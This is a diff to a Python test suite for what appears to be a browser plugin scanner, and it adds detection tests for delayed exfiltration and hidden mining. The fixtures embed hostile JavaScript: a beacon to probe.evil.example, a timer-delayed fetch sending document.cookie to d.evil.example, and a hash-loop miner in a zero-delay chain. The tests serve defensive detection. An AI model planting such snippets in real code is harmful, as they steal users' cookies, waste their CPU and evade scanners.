@@ -216,7 +216,7 @@ def test_the_host_leaves_no_trace_a_plugin_could_test(pool: BrowserPool, tmp_pat
         "  if (mine.indexOf(k) < 0 && k !== 'seen') seen.push('global-' + k); });"
         " navigator.sendBeacon('https://probe.evil.example/saw/' + seen.join(',')); }, 1000);"
     )
-    findings, result = _run(pool, _plugin(tmp_path, body))
+    _, result = _run(pool, _plugin(tmp_path, body))
     assert result.status is StageStatus.OK
     probes = [
         str(e.get("url"))
@@ -333,6 +333,32 @@ def test_a_light_ticker_is_not_a_burn_and_a_heavy_one_is(pool: BrowserPool, tmp_
     assert [f for f in light if f.severity >= Severity.MEDIUM] == []
     heavy, _ = _run(pool, _plugin(tmp_path / "heavy", ticker(40, 100)))
     assert "runtime-cpu-burn" in _rules(heavy)
+
+
+def test_a_payload_set_ahead_by_a_busy_ticker_still_fires(
+    pool: BrowserPool, tmp_path: Path
+) -> None:
+    """A long timeout set from a 1 ms decoy's tick is a line of its own: the decoy using up
+    its bounds does not push the payload past every jump."""
+    body = (
+        "var armed = false, t0 = Date.now(); setInterval(function () {"
+        " if (!armed && Date.now() - t0 > 5000) { armed = true; setTimeout(function () {"
+        " fetch('https://d.evil.example/?c=' + encodeURIComponent(document.cookie)); }, 30 * 60000); } }, 1);"
+    )
+    findings, _ = _run(pool, _plugin(tmp_path, body))
+    assert "runtime-exfiltration" in _rules(findings)
+
+
+def test_a_miner_in_a_zero_delay_chain_is_a_burn(pool: BrowserPool, tmp_path: Path) -> None:
+    """Links of a zero-delay chain stand for no simulated time: their work is not credited
+    to the clock, and hashing in them counts as the page's own CPU."""
+    body = (
+        "(function chunk() { var end = performance.now() + 9, h = 1;"
+        " while (performance.now() < end) { h = Math.imul(h ^ 7, 16777619); }"
+        " container.textContent = String(h); setTimeout(chunk, 0); })();"
+    )
+    findings, _ = _run(pool, _plugin(tmp_path, body))
+    assert "runtime-cpu-burn" in _rules(findings)
 
 
 def test_a_payload_counting_interval_ticks_still_fires(pool: BrowserPool, tmp_path: Path) -> None:
